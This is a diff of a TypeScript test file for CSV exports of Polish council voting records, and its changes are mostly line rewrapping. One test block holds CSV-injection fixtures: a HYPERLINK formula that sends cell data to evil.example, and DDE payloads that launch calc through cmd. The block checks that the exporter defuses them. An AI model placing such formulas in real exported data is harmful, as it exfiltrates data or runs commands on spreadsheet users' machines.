@@ -80,8 +80,21 @@ describe('RFC 4180', () => {
   });
 
   it('a parser reads back every value written, header first, CRLF line ends, no BOM', async () => {
-    const values = ['zwykły', 'z, przecinkiem', 'z "cudzysłowem"', 'dwie\nlinie', 'dwie\r\nlinie', '', ' spacja ', 'ąćęłńóśźż ĄĆĘŁŃÓŚŹŻ', 'a=1+1'];
-    const columns: CsvColumn<string>[] = [{ name: 'wartosc', description: '', value: (v) => v }, { name: 'dlugosc', description: '', value: (v) => v.length }];
+    const values = [
+      'zwykły',
+      'z, przecinkiem',
+      'z "cudzysłowem"',
+      'dwie\nlinie',
+      'dwie\r\nlinie',
+      '',
+      ' spacja ',
+      'ąćęłńóśźż ĄĆĘŁŃÓŚŹŻ',
+      'a=1+1',
+    ];
+    const columns: CsvColumn<string>[] = [
+      { name: 'wartosc', description: '', value: (v) => v },
+      { name: 'dlugosc', description: '', value: (v) => v.length },
+    ];
     const { out, text } = collector();
     expect(await writeCsv(out, columns, [values.slice(0, 4), values.slice(4)])).toBe(values.length);
     expect(text().startsWith('wartosc,dlugosc\r\n')).toBe(true);
@@ -96,21 +109,48 @@ describe('bulk files on the hand council', () => {
     const votes = await bulk(new BulkExports(handDb), 'glosowania');
     // Date order is data_czas desc, id desc; read backwards: V4 (T00:00), V1 10:00, V2 and V3 (10:30, id asc), V5…V14.
     expect(votes.map((v) => Number(v['id_glosowania']))).toEqual([4, 1, 2, 3, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14]);
-    expect(votes[0]).toMatchObject({ data: '2015-03-10', godzina: '', kadencja: '2014-2018', organ: 'Rada Miasta', wynik: 'odrzucono', za: '1', przeciw: '2', brak_glosu: '1', kontrowersyjnosc: '67' });
-    expect(votes[2]).toMatchObject({ id_glosowania: '2', tytul: 'Zmiana budżetu', punkt_numer: '3', posiedzenie_numer: expect.any(String), wynik: 'odrzucono' });
+    expect(votes[0]).toMatchObject({
+      data: '2015-03-10',
+      godzina: '',
+      kadencja: '2014-2018',
+      organ: 'Rada Miasta',
+      wynik: 'odrzucono',
+      za: '1',
+      przeciw: '2',
+      brak_glosu: '1',
+      kontrowersyjnosc: '67',
+    });
+    expect(votes[2]).toMatchObject({
+      id_glosowania: '2',
+      tytul: 'Zmiana budżetu',
+      punkt_numer: '3',
+      posiedzenie_numer: expect.any(String),
+      wynik: 'odrzucono',
+    });
   });
 
   it('every ballot, with the group at the vote: Łucja Wróbel is RdM on 2019-01-31 (V8) and FS from 2019-02-01 (V10)', async () => {
     const ballots = await bulk(new BulkExports(handDb), 'glosy');
     // V1–V4 4 each, V5–V8 5 each, V9 4, V10–V12 5 each, V13 1 (the table of hand-council.ts).
     expect(ballots).toHaveLength(4 * 4 + 5 * 4 + 4 + 5 * 3 + 1);
-    const of = (vote: number, person: number) => ballots.find((b) => b['id_glosowania'] === String(vote) && b['id_osoby'] === String(person));
-    expect(of(8, 3)).toEqual({ id_glosowania: '8', data: '2019-01-31', id_osoby: '3', imie_nazwisko: 'Łucja Wróbel', glos: 'za', id_ugrupowania: '1', ugrupowanie: 'Razem dla Miasta' });
+    const of = (vote: number, person: number) =>
+      ballots.find((b) => b['id_glosowania'] === String(vote) && b['id_osoby'] === String(person));
+    expect(of(8, 3)).toEqual({
+      id_glosowania: '8',
+      data: '2019-01-31',
+      id_osoby: '3',
+      imie_nazwisko: 'Łucja Wróbel',
+      glos: 'za',
+      id_ugrupowania: '1',
+      ugrupowanie: 'Razem dla Miasta',
+    });
     expect(of(10, 3)).toMatchObject({ glos: 'przeciw', id_ugrupowania: '2', ugrupowanie: 'Forum Samorządowe' });
     expect(of(9, 3)).toMatchObject({ glos: 'brak_glosu' });
     expect(of(5, 5)).toMatchObject({ glos: 'za', id_ugrupowania: '', ugrupowanie: '' }); // Anna Nowak (5) has no group
     // Within a vote, name order: V5 is Anna Nowak (1), Anna Nowak (5), Lech Mazur, Łucja Wróbel, Żaneta Kos.
-    expect(ballots.filter((b) => b['id_glosowania'] === '5').map((b) => Number(b['id_osoby']))).toEqual([1, 5, 4, 3, 6]);
+    expect(ballots.filter((b) => b['id_glosowania'] === '5').map((b) => Number(b['id_osoby']))).toEqual([
+      1, 5, 4, 3, 6,
+    ]);
   });
 
   it('councillors with their figures in surname order, sessions with attendance, groups', async () => {
@@ -119,28 +159,53 @@ describe('bulk files on the hand council', () => {
     expect(councillors.map((c) => Number(c['id_osoby']))).toEqual([6, 2, 4, 1, 5, 3, 7]); // Kos, Lis, Mazur, Nowak, Nowak, Wróbel, Żuk
     // Łucja Wróbel, all terms: attendance 4/4; ballots V1–V12: za V1 V2 V4 V5 V8 V12 = 6, przeciw V3 V6 V7 V10 V11 = 5, brak V9 = 1.
     expect(councillors.find((c) => c['id_osoby'] === '3')).toMatchObject({
-      imie_nazwisko: 'Łucja Wróbel', ugrupowanie: 'Forum Samorządowe', aktywny: '1', za: '6', przeciw: '5', wstrzymujacy: '0',
-      nieobecny: '0', brak_glosu: '1', liczba_glosowan: '12', liczba_posiedzen: '4', obecnosci: '4', frekwencja_procent: '100.00',
+      imie_nazwisko: 'Łucja Wróbel',
+      ugrupowanie: 'Forum Samorządowe',
+      aktywny: '1',
+      za: '6',
+      przeciw: '5',
+      wstrzymujacy: '0',
+      nieobecny: '0',
+      brak_glosu: '1',
+      liczba_glosowan: '12',
+      liczba_posiedzen: '4',
+      obecnosci: '4',
+      frekwencja_procent: '100.00',
     });
     // Zenon Lis: one attendance record (S1), absent.
-    expect(councillors.find((c) => c['id_osoby'] === '2')).toMatchObject({ liczba_posiedzen: '1', obecnosci: '0', frekwencja_procent: '0.00' });
+    expect(councillors.find((c) => c['id_osoby'] === '2')).toMatchObject({
+      liczba_posiedzen: '1',
+      obecnosci: '0',
+      frekwencja_procent: '0.00',
+    });
     const sessions = await bulk(exports, 'posiedzenia');
     expect(sessions.map((s) => Number(s['id_posiedzenia']))).toEqual([1, 2, 3, 4]);
     expect(sessions[0]).toMatchObject({ obecni: '2', liczba_obecnosci: '3', frekwencja_procent: '66.67' }); // S1: 2 ✗ 3 ✓ 4 ✓
     const attendance = await bulk(exports, 'obecnosci');
-    expect(attendance.filter((a) => a['id_posiedzenia'] === '1').map((a) => [a['id_osoby'], a['obecny']])).toEqual([['4', '1'], ['3', '1'], ['2', '0']]);
+    expect(attendance.filter((a) => a['id_posiedzenia'] === '1').map((a) => [a['id_osoby'], a['obecny']])).toEqual([
+      ['4', '1'],
+      ['3', '1'],
+      ['2', '0'],
+    ]);
     expect(attendance).toHaveLength(3 + 5 + 5 + 5); // S1 given, S2 and S3 derived, S4 given
     const groups = await bulk(exports, 'ugrupowania');
     // All terms, display memberships with aktywny 1: RdM 1 (Anna Nowak 1; Borys Żuk is aktywny 0), FS 3 (3, 4, 6; Zenon Lis aktywny 0).
-    expect(groups.map((g) => [g['nazwa'], g['liczba_radnych']])).toEqual([['Forum Samorządowe', '3'], ['Razem dla Miasta', '1']]);
+    expect(groups.map((g) => [g['nazwa'], g['liczba_radnych']])).toEqual([
+      ['Forum Samorządowe', '3'],
+      ['Razem dla Miasta', '1'],
+    ]);
   });
 
   it('refuses a scope that is not a council in a term', async () => {
     const exports = new BulkExports(handDb);
     const sink = new PassThrough();
-    await expect(exports.write('glosy', { organ: 2, kadencja: '2018-2023' }, sink)).rejects.toThrow(new BulkScopeError('body 2 is a komisja, not a council (rada)'));
+    await expect(exports.write('glosy', { organ: 2, kadencja: '2018-2023' }, sink)).rejects.toThrow(
+      new BulkScopeError('body 2 is a komisja, not a council (rada)'),
+    );
     await expect(exports.write('glosy', { organ: 9, kadencja: '2018-2023' }, sink)).rejects.toThrow('no body 9');
-    await expect(exports.write('glosy', { organ: 1, kadencja: '2030-2035' }, sink)).rejects.toThrow('no term 2030-2035');
+    await expect(exports.write('glosy', { organ: 1, kadencja: '2030-2035' }, sink)).rejects.toThrow(
+      'no term 2030-2035',
+    );
     await expect(exports.write('glosy', { organ: 1 }, sink)).rejects.toThrow(/needs both/);
   });
 
@@ -169,14 +234,24 @@ describe('bulk files against the API on a generated two-council snapshot', () =>
       const ids = (await bulk(exports, 'glosowania', scope)).map((v) => Number(v['id_glosowania']));
       const listed: number[] = [];
       for (let page = 1; ; page++) {
-        const body = await api('/api/glosowania', { organ: String(scope.organ), kadencja: scope.kadencja!, limit: '100', page: String(page) });
+        const body = await api('/api/glosowania', {
+          organ: String(scope.organ),
+          kadencja: scope.kadencja!,
+          limit: '100',
+          page: String(page),
+        });
         listed.push(...body.data.map((v: { id_glosowania: number }) => v.id_glosowania));
         if (body.data.length < 100) break;
       }
       expect(ids).toEqual(listed.reverse());
       total += ids.length;
     }
-    expect(total).toBe(genDb.prepare("SELECT count(*) FROM glosowanie g JOIN organ o ON o.id_organu = g.id_organu WHERE o.typ = 'rada'").pluck().get());
+    expect(total).toBe(
+      genDb
+        .prepare("SELECT count(*) FROM glosowanie g JOIN organ o ON o.id_organu = g.id_organu WHERE o.typ = 'rada'")
+        .pluck()
+        .get(),
+    );
   });
 
   it("ballots are the API's distribution of each vote, group at the vote included", async () => {
@@ -184,14 +259,26 @@ describe('bulk files against the API on a generated two-council snapshot', () =>
     const ballots = await bulk(exports, 'glosy');
     expect(ballots).toHaveLength(genDb.prepare('SELECT count(*) FROM glos').pluck().get() as number);
     const byVote = new Map<number, Record_[]>();
-    for (const b of ballots) byVote.set(Number(b['id_glosowania']), [...(byVote.get(Number(b['id_glosowania'])) ?? []), b]);
+    for (const b of ballots)
+      byVote.set(Number(b['id_glosowania']), [...(byVote.get(Number(b['id_glosowania'])) ?? []), b]);
     const ids = [...byVote.keys()];
     for (const id of ids.filter((_, i) => i % 15 === 0)) {
       const body = await api(`/api/glosowania/${id}/glosy`);
       // The file's columns of each entry (the API's also name the voter's council, issue 36).
-      const entries = (body.data as Array<Record<string, unknown>>).map(({ glos, id_osoby, imie_nazwisko, ugrupowanie }) => ({ glos, id_osoby, imie_nazwisko, ugrupowanie }));
-      expect(byVote.get(id)!.map((b) => ({ glos: b['glos'], id_osoby: Number(b['id_osoby']), imie_nazwisko: b['imie_nazwisko'], ugrupowanie: b['ugrupowanie'] || null })), String(id))
-        .toEqual(entries);
+      const entries = (body.data as Array<Record<string, unknown>>).map(
+        ({ glos, id_osoby, imie_nazwisko, ugrupowanie }) => ({ glos, id_osoby, imie_nazwisko, ugrupowanie }),
+      );
+      expect(
+        byVote
+          .get(id)!
+          .map((b) => ({
+            glos: b['glos'],
+            id_osoby: Number(b['id_osoby']),
+            imie_nazwisko: b['imie_nazwisko'],
+            ugrupowanie: b['ugrupowanie'] || null,
+          })),
+        String(id),
+      ).toEqual(entries);
     }
   });
 
@@ -199,34 +286,52 @@ describe('bulk files against the API on a generated two-council snapshot', () =>
     const exports = new BulkExports(genDb);
     for (const { scope } of exports.scopes().slice(1)) {
       const rows = await bulk(exports, 'radni', scope);
-      const expected = genDb.prepare('SELECT id_osoby FROM radny_organ WHERE kadencja = ? AND id_organu = ?').pluck().all(scope.kadencja, scope.organ) as number[];
+      const expected = genDb
+        .prepare('SELECT id_osoby FROM radny_organ WHERE kadencja = ? AND id_organu = ?')
+        .pluck()
+        .all(scope.kadencja, scope.organ) as number[];
       expect(rows.map((r) => Number(r['id_osoby'])).sort((a, b) => a - b)).toEqual(expected.sort((a, b) => a - b));
       for (const row of rows.slice(0, 4)) {
         const attendance = (await api(`/api/radni/${row['id_osoby']}/frekwencja`, { kadencja: scope.kadencja! })).data;
-        const agreement = (await api(`/api/radni/${row['id_osoby']}/zgodnosc-grupa`, { kadencja: scope.kadencja! })).data;
+        const agreement = (await api(`/api/radni/${row['id_osoby']}/zgodnosc-grupa`, { kadencja: scope.kadencja! }))
+          .data;
         expect(row['frekwencja_procent']).toBe(attendance.frekwencja_procent.toFixed(2));
         expect(Number(row['obecnosci'])).toBe(attendance.obecnosci);
         expect(row['zgodnosc_procent']).toBe(agreement.zgodnosc_procent.toFixed(2));
       }
       // Positions within the council: 1..n, each once, as the API's ranking with organ.
-      const ranking = (await api('/api/statystyki/ranking-frekwencji', { organ: String(scope.organ), kadencja: scope.kadencja!, min_posiedzen: '0', limit: '100' })).data;
+      const ranking = (
+        await api('/api/statystyki/ranking-frekwencji', {
+          organ: String(scope.organ),
+          kadencja: scope.kadencja!,
+          min_posiedzen: '0',
+          limit: '100',
+        })
+      ).data;
       expect(rows.length).toBeLessThanOrEqual(100);
       const position = new Map(rows.map((r) => [Number(r['id_osoby']), Number(r['pozycja_frekwencja'])]));
-      for (const item of ranking as Array<{ pozycja: number; id_osoby: number }>) expect(position.get(item.id_osoby)).toBe(item.pozycja);
+      for (const item of ranking as Array<{ pozycja: number; id_osoby: number }>)
+        expect(position.get(item.id_osoby)).toBe(item.pozycja);
     }
   });
 
   it("groups of the whole snapshot count members as the API's lookup does", async () => {
     const groups = await bulk(new BulkExports(genDb), 'ugrupowania');
-    const lookup = (await api('/api/utils/ugrupowania')).data as Array<{ id_ugrupowania: number; liczba_radnych: number }>;
-    expect(groups.map((g) => [Number(g['id_ugrupowania']), Number(g['liczba_radnych'])])).toEqual(lookup.map((g) => [g.id_ugrupowania, g.liczba_radnych]));
+    const lookup = (await api('/api/utils/ugrupowania')).data as Array<{
+      id_ugrupowania: number;
+      liczba_radnych: number;
+    }>;
+    expect(groups.map((g) => [Number(g['id_ugrupowania']), Number(g['liczba_radnych'])])).toEqual(
+      lookup.map((g) => [g.id_ugrupowania, g.liczba_radnych]),
+    );
   });
 
   it('describes every column of every file, with the credit and its licence', () => {
     const text = bulkDescription(RADOSKOP_CREDIT, '2026-11-24T03:00:00Z', '2026-11-20');
     expect(text).toContain('Źródło: Dane: Radoskop, na podstawie Biuletynów Informacji Publicznej rad, CC BY 4.0');
     expect(text).toContain('Licencja danych: CC BY 4.0');
-    for (const file of BULK_FILES) for (const column of bulkColumns(file)) expect(text).toContain(`  ${column.name}: ${column.description}`);
+    for (const file of BULK_FILES)
+      for (const column of bulkColumns(file)) expect(text).toContain(`  ${column.name}: ${column.description}`);
     expect(bulkDescription(SEJM_CREDIT, 'x', null)).toContain('Źródło nie podaje licencji');
     expect(bulkDescription({ ...SEJM_CREDIT, synthetic: true }, 'x', null)).toContain('przykład syntetyczny');
   });
@@ -254,13 +359,25 @@ describe('the list writer', () => {
     const reads: number[] = [];
     const read = (page: number, limit: number) => {
       reads.push(page);
-      return { items: Array.from({ length: Math.max(0, Math.min(limit, size - (page - 1) * limit)) }, (_, i) => (page - 1) * limit + i), total: size };
+      return {
+        items: Array.from(
+          { length: Math.max(0, Math.min(limit, size - (page - 1) * limit)) },
+          (_, i) => (page - 1) * limit + i,
+        ),
+        total: size,
+      };
     };
     return { read, reads };
   };
 
   it('writes every page of the list in order, and reads no page past the end', async () => {
-    for (const [size, pages] of [[0, [1]], [1, [1]], [500, [1]], [501, [1, 2]], [1234, [1, 2, 3]]] as const) {
+    for (const [size, pages] of [
+      [0, [1]],
+      [1, [1]],
+      [500, [1]],
+      [501, [1, 2]],
+      [1234, [1, 2, 3]],
+    ] as const) {
       const { read, reads } = list(size);
       const { out, text } = collector();
       expect(await writeListCsv(out, columns, read, 500)).toBe(size);
@@ -274,9 +391,9 @@ describe('formulas in the data (OWASP CSV injection, issue 34)', () => {
   /** Texts a spreadsheet would run, in every kind of text column of the hand council. */
   const FORMULAS = {
     title: '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")', // vote 1
-    name: '+cmd|\' /C calc\'!A0', // councillor 1
-    group: '-2+3+cmd|\' /C calc\'!A0', // group 1
-    body: '@SUM(1+1)*cmd|\' /C calc\'!A0', // body 1
+    name: "+cmd|' /C calc'!A0", // councillor 1
+    group: "-2+3+cmd|' /C calc'!A0", // group 1
+    body: "@SUM(1+1)*cmd|' /C calc'!A0", // body 1
     session: '\t=1+1', // session 1's number
     sessionName: '\r=1+1', // session 2's name
     otherTitle: '＝1+1', // vote 2 (a full-width equals sign)
@@ -286,7 +403,11 @@ describe('formulas in the data (OWASP CSV injection, issue 34)', () => {
 
   beforeAll(async () => {
     const bundle = JSON.parse(JSON.stringify(HAND_COUNCIL)) as Bundle;
-    const edit = (file: string, key: string, id: number, values: Record<string, string>) => Object.assign(bundle[file]!.find((r) => r[key] === id)!, values);
+    const edit = (file: string, key: string, id: number, values: Record<string, string>) =>
+      Object.assign(
+        bundle[file]!.find((r) => r[key] === id)!,
+        values,
+      );
     edit('glosowania.csv', 'id_glosowania', 1, { tytul: FORMULAS.title });
     edit('radni.csv', 'id_osoby', 1, { imie_nazwisko: FORMULAS.name });
     edit('ugrupowania.csv', 'id_ugrupowania', 1, { nazwa: FORMULAS.group });
@@ -319,8 +440,9 @@ describe('formulas in the data (OWASP CSV injection, issue 34)', () => {
     const urls = [
       ...BULK_FILES.map((file) => `/dane/${file}.csv`),
       ...BULK_FILES.map((file) => `/dane/1/2014-2018/${file}.csv`),
-      ...SITE_PAGES.flatMap((page) => Object.keys(page.downloads ?? {}).map((name) => listRoute(page.route, name)))
-        .map((route) => route.replace(':token', token).replace(':id2', '2').replace(':id', '1')),
+      ...SITE_PAGES.flatMap((page) => Object.keys(page.downloads ?? {}).map((name) => listRoute(page.route, name))).map(
+        (route) => route.replace(':token', token).replace(':id2', '2').replace(':id', '1'),
+      ),
     ];
     const seen = new Set<string>();
     for (const url of urls) {
@@ -329,12 +451,15 @@ describe('formulas in the data (OWASP CSV injection, issue 34)', () => {
       const records: string[][] = parse(res.text, { record_delimiter: '\r\n' });
       for (const record of records) {
         for (const field of record) {
-          expect(STARTS_FORMULA.test(field) && !/^-\d+(\.\d+)?$/.test(field), `${url}: ${JSON.stringify(field)}`).toBe(false);
+          expect(STARTS_FORMULA.test(field) && !/^-\d+(\.\d+)?$/.test(field), `${url}: ${JSON.stringify(field)}`).toBe(
+            false,
+          );
           if (field.startsWith("'")) seen.add(field.slice(1));
         }
       }
     }
-    for (const [where, text] of Object.entries(FORMULAS)) expect(seen.has(text), `${where}: ${JSON.stringify(text)}`).toBe(true);
+    for (const [where, text] of Object.entries(FORMULAS))
+      expect(seen.has(text), `${where}: ${JSON.stringify(text)}`).toBe(true);
   });
 
   it('/dane/ and its opis.txt say so', async () => {
@@ -353,8 +478,9 @@ describe('CSV columns are described by the API response schemas', () => {
       columns.find((c) => c.name === name)!.description;
     expect(described(bulkColumns('glosowania'), 'tytul')).toBe(documented('VoteSummary', 'tytul'));
     expect(described(voteList.columns, 'tytul')).toBe(documented('VoteSummary', 'tytul'));
-    expect(described(bulkColumns('posiedzenia'), 'frekwencja_procent'))
-      .toBe(documented('Session', 'frekwencja_procent'));
+    expect(described(bulkColumns('posiedzenia'), 'frekwencja_procent')).toBe(
+      documented('Session', 'frekwencja_procent'),
+    );
     expect(described(bulkColumns('ugrupowania'), 'pelna_nazwa')).toBe(descriptionOf(group.shape.pelna_nazwa));
   });
 
@@ -366,4 +492,3 @@ describe('CSV columns are described by the API response schemas', () => {
     expect(() => columnsOf(voteSummary, ['nie_ma'])).toThrow(/CSV column nie_ma: no field nie_ma/);
   });
 });
-
